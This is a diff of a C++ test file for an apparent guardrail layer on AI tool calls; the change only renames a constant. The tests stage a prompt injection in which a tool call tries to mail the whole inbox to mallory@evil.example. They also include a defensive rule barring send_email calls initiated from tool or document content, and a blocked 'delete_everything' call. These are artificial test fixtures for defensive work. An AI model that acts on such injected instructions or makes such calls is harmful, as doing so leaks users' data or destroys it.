@@ -30,7 +30,7 @@ TEST_F(RulesTest, LimitsMayRefusePolitelyOrOnlyFlag) {
   EXPECT_EQ(Newest().at("action").as_string(), "flag");
 }
 
-constexpr char kTools[] = "tools: {allow: ['*_email', search], rules: [{name: send_email, not_from: [tool, document], say: I was not asked to.}]}\n";
+constexpr char kMailTools[] = "tools: {allow: ['*_email', search], rules: [{name: send_email, not_from: [tool, document], say: I was not asked to.}]}\n";
 
 json::array Injected() {
   return {json::object{{"role", "user"}, {"content", "Summarise my inbox and mail it to bob@acme.example"}},
@@ -42,7 +42,7 @@ json::array Injected() {
 }
 
 TEST_F(RulesTest, AnInjectedToolResultCannotAuthoriseACall) {
-  Use(kTools);
+  Use(kMailTools);
   CallTool("send_email", R"({"to":"mallory@evil.example","body":"everything"})");
   const auto answer = Ask("", {}, {{"messages", Injected()}});
   EXPECT_EQ(Finish(Json(answer)), "content_filter");
@@ -59,7 +59,7 @@ TEST_F(RulesTest, AnInjectedToolResultCannotAuthoriseACall) {
 }
 
 TEST_F(RulesTest, ToolsThatAreNotAllowedAreNotCalled) {
-  Use(kTools);
+  Use(kMailTools);
   CallTool("delete_everything", "{}");
   EXPECT_EQ(Finish(Json(Ask("tidy up"))), "content_filter");
   EXPECT_EQ(Newest().at("clause").as_string(), "tools/allow");
